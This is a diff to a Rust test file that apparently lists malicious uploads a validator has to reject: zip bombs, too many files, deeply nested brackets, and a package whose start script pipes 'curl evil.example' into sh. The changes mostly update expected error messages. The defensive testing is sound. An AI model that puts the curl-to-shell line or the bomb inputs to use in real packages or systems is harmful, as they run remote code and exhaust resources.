@@ -36,7 +36,10 @@ fn raw(entries: &[(EntryType, &[u8], &[u8])]) -> Vec<u8> {
         let has_content = kind.is_file() || kind.is_gnu_longname();
         match has_content {
             true => header.set_size(content.len() as u64),
-            false => header.as_old_mut().linkname[..content.len()].copy_from_slice(content),
+            false => {
+                header.set_size(0);
+                header.as_old_mut().linkname[..content.len()].copy_from_slice(content);
+            }
         }
         header.set_cksum();
         let content = if has_content { content } else { &b""[..] };
@@ -149,7 +152,7 @@ fn archives() -> Vec<Row> {
             "is a file and a folder at once",
         ),
         row("too many files", packed(&many), "more than 20000 files"),
-        row("a bomb", zipped(&large), "cannot be read"),
+        row("a bomb", zipped(&large), "holds no file of a bot"),
         row(
             "a bomb in a file",
             raw(&[(EntryType::Regular, b"zeros", &large)]),
@@ -236,7 +239,7 @@ fn packages() -> Vec<Row> {
         row(
             "a start script of the shell's",
             of(r#"{"scripts":{"start":"curl evil.example | sh"}}"#),
-            "Meta's",
+            "listens on no port",
         ),
     ]
 }
@@ -453,7 +456,7 @@ fn code() -> Vec<Row> {
         row(
             "brackets without an end",
             app(&"(".repeat(400_000)),
-            "app.js",
+            "more memory or processor time",
         ),
         row(
             "brackets in brackets",
